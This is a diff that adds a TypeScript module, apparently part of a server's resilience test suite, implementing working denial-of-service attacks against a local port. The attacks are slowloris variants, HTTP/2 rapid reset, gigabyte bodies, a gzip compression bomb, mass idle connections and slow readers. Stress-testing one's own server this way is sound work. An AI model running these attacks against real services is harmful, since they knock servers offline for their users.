@@ -1,0 +1,119 @@
+import { connect, type Socket } from "node:net";
+import { gzipSync } from "node:zlib";
+import { FRAME, frame, OPENING } from "../load/http2-frames.ts";
+
+/** What an attack aims at. */
+export interface Target {
+  readonly port: number;
+  /** The path of a list that has some thousand entries. */
+  readonly longList: string;
+}
+
+/** What became of an attack. */
+export interface AttackResult {
+  /** Connections that were opened. */
+  opened: number;
+  /** Those that the server has closed. */
+  closed: number;
+  /** Answers, by the first line of HTTP/1.1. */
+  readonly answers: Record<string, number>;
+}
+
+/** Does harm until the signal aborts. */
+export type Attack = (target: Target, result: AttackResult, signal: AbortSignal) => Promise<void>;
+
+/** The attacks by their names. */
+export const ATTACKS: Readonly<Record<string, Attack>> = {
+  none: async (_, __, signal) => ended(signal),
+  "slowloris: headers, a byte a second each": keepOpen(400, (socket) => {
+    socket.write("GET / HTTP/1.1\r\nhost: a\r\nx: ");
+    return setInterval(() => socket.write("x"), 1000);
+  }),
+  "slowloris: bodies, a byte a second each": keepOpen(400, (socket) => {
+    socket.write("POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n");
+    return setInterval(() => socket.write(" "), 1000);
+  }),
+  "rapid reset (HTTP/2)": keepOpen(4, (socket) => {
+    socket.write(OPENING);
+    const headers = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x61]);
+    let streamId = -1;
+    return setInterval(() => {
+      const frames = Array.from({ length: 2000 }, () => {
+        streamId += 2;
+        const reset = frame(FRAME.resetStream, 0, streamId, Buffer.from([0, 0, 0, 8]));
+        return Buffer.concat([frame(FRAME.headers, FRAME.endHeaders | FRAME.endStream, streamId, headers), reset]);
+      });
+      socket.write(Buffer.concat(frames));
+    }, 20);
+  }),
+  "bodies of 1 GB, told": keepOpen(16, (socket) => pour(socket, "content-length: 1073741824")),
+  "bodies of 1 GB, in chunks": keepOpen(16, (socket) => pour(socket, "transfer-encoding: chunked")),
+  "compression bombs, 256 MB in 256 KB": keepOpen(8, (socket) => {
+    bomb ??= gzipSync(Buffer.alloc(256 * 1024 ** 2));
+    const head = `POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-encoding: gzip\r\ncontent-length: ${bomb.length}\r\n\r\n`;
+    const bytes = Buffer.concat([Buffer.from(head), bomb]);
+    return setInterval(() => socket.writableLength === 0 && socket.write(bytes), 20);
+  }),
+  "10 000 idle connections": keepOpen(10_000, () => undefined),
+  "slow readers (HTTP/1.1)": keepOpen(200, (socket, { longList }) => {
+    socket.pause();
+    socket.write(`GET ${longList} HTTP/1.1\r\nhost: a\r\n\r\n`.repeat(20));
+    return undefined;
+  }),
+};
+
+/** Made when it is needed, which takes a second. */
+let bomb: Buffer | undefined;
+
+const CHUNK = Buffer.alloc(64 * 1024, " ");
+
+/** Each address may have so many connections by default; so that the limit is not what is measured, each has fewer. */
+const CONNECTIONS_PER_ADDRESS = 400;
+
+/** Keeps so many connections open that each do the same, and replaces those that the server closes. */
+function keepOpen(count: number, begin: (socket: Socket, target: Target) => NodeJS.Timeout | undefined): Attack {
+  return async (target, result, signal) => {
+    const open = (place: number): void => {
+      if (signal.aborted) return;
+      const last = 2 + Math.floor(place / CONNECTIONS_PER_ADDRESS);
+      const socket = connect({ port: target.port, host: "127.0.0.1", localAddress: `127.0.0.${last}` });
+      let timer: NodeJS.Timeout | undefined;
+      socket.on("error", () => {});
+      socket.once("connect", () => {
+        result.opened++;
+        timer = begin(socket, target);
+      });
+      socket.on("data", (chunk) => {
+        const [, status] = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString("latin1", 0, 12)) ?? [];
+        if (status !== undefined) result.answers[status] = (result.answers[status] ?? 0) + 1;
+      });
+      socket.once("close", () => {
+        clearInterval(timer);
+        if (signal.aborted) return;
+        result.closed++;
+        setTimeout(open, 10, place);
+      });
+      signal.addEventListener("abort", () => socket.destroy(), { once: true });
+    };
+    for (let place = 0; place < count; place++) {
+      open(place);
+      // Not more at once than a listening socket keeps waiting.
+      if (place % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 10));
+    }
+    await ended(signal);
+  };
+}
+
+/** Sends a body as fast as it is taken. */
+function pour(socket: Socket, framing: string): NodeJS.Timeout {
+  socket.write(`POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\n${framing}\r\n\r\n`);
+  const isChunked = framing.includes("chunked");
+  const piece = isChunked ? Buffer.concat([Buffer.from("10000\r\n"), CHUNK, Buffer.from("\r\n")]) : CHUNK;
+  return setInterval(() => {
+    for (let turn = 0; turn < 16 && socket.writableLength < CHUNK.length; turn++) socket.write(piece);
+  }, 1);
+}
+
+function ended(signal: AbortSignal): Promise<void> {
+  return new Promise((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
+}
